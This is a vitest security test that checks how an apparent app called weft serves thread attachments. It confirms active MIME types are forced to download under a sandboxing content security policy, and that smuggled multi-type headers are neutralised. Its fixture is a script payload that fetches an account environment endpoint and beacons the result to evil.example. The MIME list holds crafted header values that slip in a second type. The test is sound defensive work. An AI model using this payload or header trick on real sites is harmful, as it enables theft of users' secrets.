/**
 * A thread's file never runs as a page on weft's origin (review 21d): a tool or a remote MCP server
 * chooses its type, and an "image" of type text/html or image/svg+xml was served inline with no
 * policy, where the playground lives; review 21e: a type holding several (`text/plain;x=,text/html`)
 * passed as plain text, and a browser reads such a header by its last type.
 */
import { expect, it } from "vitest";
import { createThread, inThread, request } from "../helpers.js";

const PAGE = "<script>fetch('/account/env').then((r) => r.text()).then((t) => navigator.sendBeacon('https://evil.example/', t))</script>";

it("active types are downloaded, shown types are shown, and every file is served sandboxed", async () => {
  const id = await createThread();
  const served: Record<string, string[]> = {};
  const types = ["text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript", "image/png", "text/plain; charset=utf-8", "text/plain;x=,text/html", "TEXT/PLAIN; Charset=\"UTF-8\"", "text/plain\u00e9"];
  const sentAs: Record<string, string> = {};
  for (const [n, mimeType] of types.entries()) {
    const path = `calls/c1/attachments/${n}-file`;
    await inThread(id, (o) => o.store.files.write(path, btoa(PAGE), mimeType, PAGE.length));
    const res = await request(`/threads/${id}/files/${path}`);
    expect(res.status).toBe(200);
    sentAs[mimeType] = res.headers.get("content-type")!;
    served[mimeType] = [res.headers.get("content-disposition")!.split(";")[0]!, res.headers.get("content-security-policy") ?? "", res.headers.get("x-content-type-options") ?? ""];
    await res.arrayBuffer();
  }
  const sandboxed = ["sandbox; default-src 'none'", "nosniff"];
  expect(served).toEqual({
    "text/html": ["attachment", ...sandboxed],
    "image/svg+xml": ["attachment", ...sandboxed],
    "application/xhtml+xml": ["attachment", ...sandboxed],
    "text/javascript": ["attachment", ...sandboxed],
    "image/png": ["inline", ...sandboxed],
    "text/plain; charset=utf-8": ["inline", ...sandboxed],
    "text/plain;x=,text/html": ["attachment", ...sandboxed],
    'TEXT/PLAIN; Charset="UTF-8"': ["inline", ...sandboxed],
    "text/plain\u00e9": ["attachment", ...sandboxed],
  });
  expect(sentAs).toMatchObject({ "text/plain;x=,text/html": "application/octet-stream", 'TEXT/PLAIN; Charset="UTF-8"': "text/plain; charset=utf-8", "text/plain\u00e9": "application/octet-stream" });
});
